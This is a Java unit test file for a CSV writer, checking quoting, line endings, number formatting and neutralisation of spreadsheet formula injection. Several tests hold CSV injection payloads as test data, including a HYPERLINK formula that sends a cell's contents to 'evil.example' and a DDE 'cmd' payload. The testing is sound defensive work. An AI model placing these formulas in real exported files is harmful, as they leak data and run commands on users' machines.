package scot.cairn.formats;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;

class CsvWriterTest {

    @Test
    void crlfQuotesWhatNeedsQuotingAndWritesNullAsEmpty() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter.crlf(out, Formulas.NEUTRALISE)
                .row("code", "name")
                .row(Arrays.asList("S01006506", "Culter, \"01\""))
                .row("S01006507", null)
                .flush();
        assertThat(out.toString()).isEqualTo("code,name\r\nS01006506,\"Culter, \"\"01\"\"\"\r\nS01006507,\r\n");
    }

    @Test
    void lfEndsRecordsWithLineFeed() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter.lf(out, Formulas.KEEP).row(List.of("i", "j")).row(1, 2.5).flush();
        assertThat(out.toString()).isEqualTo("i,j\n1,2.5\n");
    }

    @Test
    void utf8WritesThroughItsBufferOnFlush() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        CsvWriter csv = CsvWriter.utf8(bytes, Formulas.NEUTRALISE)
                .row("Na h-Eileanan Siar", "Comhairle nan Eilean Siar: \u00e0");
        assertThat(bytes.size()).isZero();
        csv.flush();
        assertThat(bytes.toString(StandardCharsets.UTF_8))
                .isEqualTo("Na h-Eileanan Siar,Comhairle nan Eilean Siar: \u00e0\r\n");
    }

    @Test
    void fieldsArePartOfARecordQuotedAsARowWouldQuoteThem() throws IOException {
        assertThat(CsvWriter.fields(Formulas.NEUTRALISE, "S01006506", "Culter, \"01\"", null))
                .isEqualTo("S01006506,\"Culter, \"\"01\"\"\",");
        StringWriter row = new StringWriter();
        CsvWriter.lf(row, Formulas.NEUTRALISE)
                .row("S01006506", "Culter, \"01\"", "1")
                .flush();
        assertThat(CsvWriter.fields(Formulas.NEUTRALISE, "S01006506", "Culter, \"01\"") + ",1\n")
                .isEqualTo(row.toString());
        assertThat(CsvWriter.fields(Formulas.NEUTRALISE)).isEmpty();
    }

    @Test
    void fieldsNeutraliseFormulasAsRowsDo() {
        assertThat(CsvWriter.fields(Formulas.NEUTRALISE, "=1+2", -4)).isEqualTo("'=1+2,-4");
    }

    @Test
    void numbersAreWrittenWithoutBinaryNoiseOrAPointZero() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter.lf(out, Formulas.NEUTRALISE)
                .row(118049.0, 0.1 + 0.2, -2.5, 42L, new BigDecimal("24.60"))
                .flush();
        assertThat(out.toString()).isEqualTo("118049,0.3,-2.5,42,24.6\n");
    }

    @Test
    void owaspsTwoExamplesAreEscapedAsTheCsvInjectionPageShows() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter.lf(out, Formulas.NEUTRALISE)
                .row("=1+2\";=1+2")
                .row("=1+2'\" ;,=1+2")
                .flush();
        assertThat(out.toString()).isEqualTo("\"'=1+2\"\";=1+2\"\n\"'=1+2'\"\" ;,=1+2\"\n");
    }

    @Test
    void formulaCellsAnywhereInARowAreNeutralisedAndNegativeNumbersAreNot() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter.crlf(out, Formulas.NEUTRALISE)
                .row(
                        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                        "+cmd|' /C calc'!A0",
                        "@SUM(1)",
                        "-2+3",
                        "-3.5",
                        -4,
                        "\tx")
                .flush();
        List<String> cells = parse(out.toString()).get(0);
        assertThat(cells)
                .containsExactly(
                        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                        "'+cmd|' /C calc'!A0",
                        "'@SUM(1)",
                        "'-2+3",
                        "-3.5",
                        "-4",
                        "'\tx");
    }

    @Test
    void semicolonsAndTabsAreQuotedSoOtherLocalesCannotStartACellInside() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter.lf(out, Formulas.NEUTRALISE).row("a;=1+2", "b\t=1+2", "plain").flush();
        assertThat(out.toString()).isEqualTo("\"a;=1+2\",\"b\t=1+2\",plain\n");
    }

    @Test
    void keepWritesFormulasAsTheyAre() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter.lf(out, Formulas.KEEP).row("=1+2", "a;b").flush();
        assertThat(out.toString()).isEqualTo("=1+2,a;b\n");
    }

    private static List<List<String>> parse(String csv) throws IOException {
        try (CSVParser p = CSVParser.parse(new StringReader(csv), CSVFormat.RFC4180)) {
            return p.getRecords().stream().map(r -> r.toList()).toList();
        }
    }
}
